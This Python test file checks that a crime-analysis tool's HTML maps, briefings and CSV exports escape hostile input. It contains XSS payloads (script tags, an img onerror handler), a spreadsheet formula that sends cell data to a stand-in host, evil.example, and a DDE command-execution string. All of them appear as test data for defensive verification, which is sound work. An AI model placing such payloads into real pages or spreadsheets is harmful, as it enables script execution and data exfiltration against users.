"""Hostile text in every HTML product stays text, and hostile store names never become spreadsheet formulas.

The payloads close the <title>, break out of an attribute and open a script; they arrive through every door a
product has: the `--title` of `map forces`, the marking, tile attribution and force names from configuration,
a store name in the store, and the title/subtitle a library caller passes. Each product is read back two
ways: parsed (html.parser: the page title and heading hold the payload as text, no element or handler it
would create exists) and opened in headless chromium (no dialog fired, the window flag never set)."""
from __future__ import annotations

import csv
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import yaml

from workbench.cli import main

PAYLOAD_SCRIPTS = ("window.__pwned=1;alert(1)", "window.__pwned=2;alert(2)", "window.__pwned=3;alert(3)")
HOSTILE = ('</title><script>window.__pwned=3;alert(3)</script>"><img src=x onerror="window.__pwned=2;alert(2)">'
           '<script>window.__pwned=1;alert(1)</script>')
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


class Page(HTMLParser):
    """Elements, handlers and texts of a page as a browser's tokenizer sees them."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self.texts: dict[str, list[str]] = {}
        self._open: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag in ("title", "h1", "script", "div", "td", "th", "span", "p"):
            self._open.append(tag)
            self.texts.setdefault(tag, []).append("")

    def handle_endtag(self, tag):
        if self._open and self._open[-1] == tag:
            self._open.pop()

    def handle_data(self, data):
        if self._open:
            tag = self._open[-1]
            self.texts[tag][-1] += data

    def handlers(self) -> list[tuple[str, str]]:
        return [(tag, name) for tag, attrs in self.tags for name in attrs if name.lower().startswith("on")]

    def injected_scripts(self) -> list[str]:
        return [s for s in self.texts.get("script", []) if s.strip() in PAYLOAD_SCRIPTS]

    def images(self) -> list[dict]:
        return [attrs for tag, attrs in self.tags if tag == "img"]


def assert_inert(path: Path, *, shown: list[str]) -> Page:
    """The page at `path` holds no element or handler from the payload; each text in `shown` appears as text."""
    page = Page(path.read_text(encoding="utf-8"))
    assert page.handlers() == []
    assert page.injected_scripts() == []
    assert all(img.get("src", "").startswith("data:image/png;base64,") for img in page.images())
    all_text = "\n".join(t for texts in page.texts.values() for t in texts)
    for text in shown:
        assert text in all_text, text
    return page


def open_in_chromium(chromium_path: str, html_path: Path) -> dict:
    from playwright.sync_api import sync_playwright

    from workbench import maps

    dialogs: list[str] = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium_path, args=maps.CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            page.route("**/*", lambda r: r.continue_() if r.request.url.startswith("file://") else r.abort())
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(html_path.resolve().as_uri(), wait_until="load")
            page.wait_for_timeout(300)
            state = page.evaluate("""() => ({
                pwned: window.__pwned === undefined ? null : window.__pwned,
                title: document.title,
                top: document.getElementById('wb-marking-top').innerText,
                bottom: document.getElementById('wb-marking-bottom').innerText,
                heading: (document.querySelector('#wb-title h1') || document.getElementById('wb-title')).innerText,
                images: document.querySelectorAll('img[onerror], img[src="x"]').length,
                leaflet_attribution: (document.querySelector('.leaflet-control-attribution') || {}).innerText || null,
                scripts: Array.from(document.scripts).filter(s => s.textContent.trim().startsWith('window.__pwned')).length,
            })""")
        finally:
            browser.close()
    state["dialogs"] = dialogs
    return state


@pytest.fixture
def hostile_config(tmp_path, monkeypatch):
    """Marking and tile attribution from configuration carry the payload (as a careless edit could)."""
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump({
        "markings": {"classification": "OFFICIAL" + HOSTILE, "caveat": None},
        "maps": {"tile_url": "http://127.0.0.1:9/{z}/{x}/{y}.png", "tile_attribution": "Tiles " + HOSTILE},
    }), encoding="utf-8")
    monkeypatch.setenv("WORKBENCH_CONFIG", str(path))
    from workbench import config

    assert config.security_marking() == "OFFICIAL" + HOSTILE
    return path


def run_cli(args, capsys):
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_map_forces_hostile_title_marking_and_tile_attribution_stay_text(tmp_path, capsys, hostile_config):
    db = tmp_path / "s.duckdb"
    assert run_cli(["db", "init", "--db", db], capsys)[0] == 0
    out = tmp_path / "forces.html"
    code, _, err = run_cli(["map", "forces", "--out", out, "--db", db, "--no-png", "--title", HOSTILE,
                            "--purpose", HOSTILE.replace("\n", " ")], capsys)
    assert code == 0, err
    page = assert_inert(out, shown=["OFFICIAL" + HOSTILE, "Tiles " + HOSTILE])
    assert page.texts["title"] == [HOSTILE]                     # the whole payload, inside the one title
    assert page.texts["h1"] == [HOSTILE]
    assert [t for t in page.texts["div"] if t == "OFFICIAL" + HOSTILE] == ["OFFICIAL" + HOSTILE] * 2
    # Leaflet shows the tile attribution as HTML: it is handed over escaped (&lt; in the JSON of the script)
    assert '"attribution": "Tiles \\u0026lt;/title\\u0026gt;\\u0026lt;script\\u0026gt;' in out.read_text()


@pytest.mark.browser
def test_map_forces_hostile_title_runs_nothing_in_chromium(tmp_path, capsys, hostile_config, chromium_path):
    db = tmp_path / "s.duckdb"
    run_cli(["db", "init", "--db", db], capsys)
    out = tmp_path / "forces.html"
    code, _, err = run_cli(["map", "forces", "--out", out, "--db", db, "--no-png", "--title", HOSTILE], capsys)
    assert code == 0, err
    state = open_in_chromium(chromium_path, out)
    assert state["dialogs"] == [] and state["pwned"] is None and state["images"] == state["scripts"] == 0
    assert state["title"] == HOSTILE and state["heading"] == HOSTILE
    assert state["top"] == state["bottom"] == "OFFICIAL" + HOSTILE
    assert "Tiles " + HOSTILE in state["leaflet_attribution"]          # shown as text by Leaflet


def _hostile_gi():
    from workbench.hotspots import cells, policeuk
    from workbench.hotspots.counts import count_matrix

    ev = policeuk.read_street_csvs()
    cm = count_matrix(ev, "h3:8", "month", periods="observed", force_codes="13")
    top = cm.units.assign(value=cm.counts.sum(axis=1)).sort_values("value", ascending=False).head(3)
    gi = pd.DataFrame({"unit_id": top["unit_id"], "value": top["value"], "gi_z": 3.0,
                       "category": "Hot spot 99%", "force_code": "13"})
    return gi, cells.parse_unit("h3:8")


def test_hotspot_map_hostile_title_subtitle_and_force_names(tmp_path, hostile_config):
    from workbench.hotspots import briefing

    gi, unit = _hostile_gi()
    forces = pd.DataFrame({"force_code": ["13"], "force_name": [HOSTILE], "hot_cells": [3]})
    out = tmp_path / "hot.html"
    briefing.hotspot_map(gi, unit, out, "Hot " + HOSTILE, "Sub " + HOSTILE, forces, png=False)
    page = assert_inert(out, shown=["Sub " + HOSTILE, "OFFICIAL" + HOSTILE, "Tiles " + HOSTILE])
    assert page.texts["title"] == ["Hot " + HOSTILE] and page.texts["h1"] == ["Hot " + HOSTILE]
    assert HOSTILE in page.texts["td"]                          # the side table lists the force by name


def test_hotspots_map_cli_with_hostile_configuration(tmp_path, capsys, hostile_config):
    out = tmp_path / "hot.html"
    code, _, err = run_cli(["hotspots", "map", "--source", "police-uk", "--unit", "h3:8", "--permutations", "19",
                            "--out", out, "--no-png", "--db", tmp_path / "audit.duckdb"], capsys)
    assert code == 0, err
    page = assert_inert(out, shown=["OFFICIAL" + HOSTILE, "Tiles " + HOSTILE])
    assert page.texts["title"] == ["Shoplifting hot spots: England and Wales"]


def _hostile_plan():
    """A West Yorkshire plan (police.uk sample) whose planned places hold stores with hostile names."""
    from workbench.hotspots import plan, policeuk

    ev = policeuk.read_street_csvs()
    kw = dict(force_code="13", unit="h3:8", period="month", periods="observed", top=3)
    first = plan.patrol_plan(ev, None, **kw)
    names = [FORMULA_NAME, HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0"]
    stores = pd.DataFrame({"store_id": [f"=S{i}" for i in range(3)], "name": names, "town": ["-2+3", "Leeds", HOSTILE],
                           "latitude": first.cells["latitude"].to_numpy(), "longitude": first.cells["longitude"].to_numpy()})
    p = plan.patrol_plan(ev, stores, **kw)
    assert len(p.stores) == 3
    return p, names


def test_plan_briefing_map_and_tables_with_hostile_store_names(tmp_path, hostile_config):
    from workbench.hotspots import briefing

    p, names = _hostile_plan()
    out = tmp_path / "plan"
    result = briefing.plan_outputs(p, out, png=False)
    assert sorted(Path(f).name for f in result["files"]) == sorted(
        ["plan.csv", "stores.csv", "profile.csv", "accuracy.csv", "map.html", "briefing.html", "briefing.pdf"])
    page = assert_inert(out / "briefing.html", shown=[HOSTILE, FORMULA_NAME, "OFFICIAL" + HOSTILE])
    assert page.texts["title"] == ["Patrol briefing: West Yorkshire"]
    assert_inert(out / "map.html", shown=["OFFICIAL" + HOSTILE])
    # the tables: every hostile name is text in a spreadsheet (leading apostrophe), headers too
    with open(out / "stores.csv", newline="", encoding="utf-8-sig") as fh:
        stores = list(csv.DictReader(fh))
    assert [r["name"] for r in stores] == ["'" + FORMULA_NAME, HOSTILE, "'" + names[2]]
    assert [r["store_id"] for r in stores] == ["'=S0", "'=S1", "'=S2"]
    assert [r["town"] for r in stores] == ["'-2+3", "Leeds", HOSTILE]
    with open(out / "plan.csv", newline="", encoding="utf-8-sig") as fh:
        cells = list(csv.DictReader(fh))
    assert cells[0]["stores"].startswith("'" + FORMULA_NAME)
    assert all(not v.lstrip().startswith(("=", "+", "@")) for r in cells + stores for v in r.values())
    assert float(cells[0]["expected"]) == pytest.approx(p.cells["expected"].iloc[0])   # numbers stay numbers


@pytest.mark.browser
def test_plan_briefing_and_map_run_nothing_in_chromium(tmp_path, hostile_config, chromium_path):
    from workbench.hotspots import briefing

    p, _ = _hostile_plan()
    out = tmp_path / "plan"
    briefing.plan_outputs(p, out, png=False)
    for name in ("briefing.html", "map.html"):
        state = open_in_chromium(chromium_path, out / name)
        assert state["dialogs"] == [] and state["pwned"] is None and state["images"] == state["scripts"] == 0, name
        assert state["top"] == state["bottom"] == "OFFICIAL" + HOSTILE


def test_plan_cli_briefing_with_hostile_configuration(tmp_path, capsys, hostile_config):
    out = tmp_path / "plan"
    code, _, err = run_cli(["hotspots", "plan", "--source", "police-uk", "--force", "13", "--period", "next-month",
                            "--out", out, "--no-png", "--db", tmp_path / "audit.duckdb", "--top", "3"], capsys)
    assert code == 0, err
    page = assert_inert(out / "briefing.html", shown=["OFFICIAL" + HOSTILE])
    assert [t for t in page.texts["div"] if t == "OFFICIAL" + HOSTILE] == ["OFFICIAL" + HOSTILE] * 2


def test_weasyprint_briefing_keeps_the_hostile_marking_as_text(tmp_path, hostile_config):
    from weasyprint import HTML

    from workbench.hotspots import briefing

    p, _ = _hostile_plan()
    doc = HTML(string=briefing.briefing_html(p)).render()
    texts = briefing.page_texts(doc)
    marking = "".join(("OFFICIAL" + HOSTILE).split())              # a long marking wraps over lines
    assert texts and all("".join(t.split()).count(marking) >= 2 for t in texts)   # top and bottom of every page
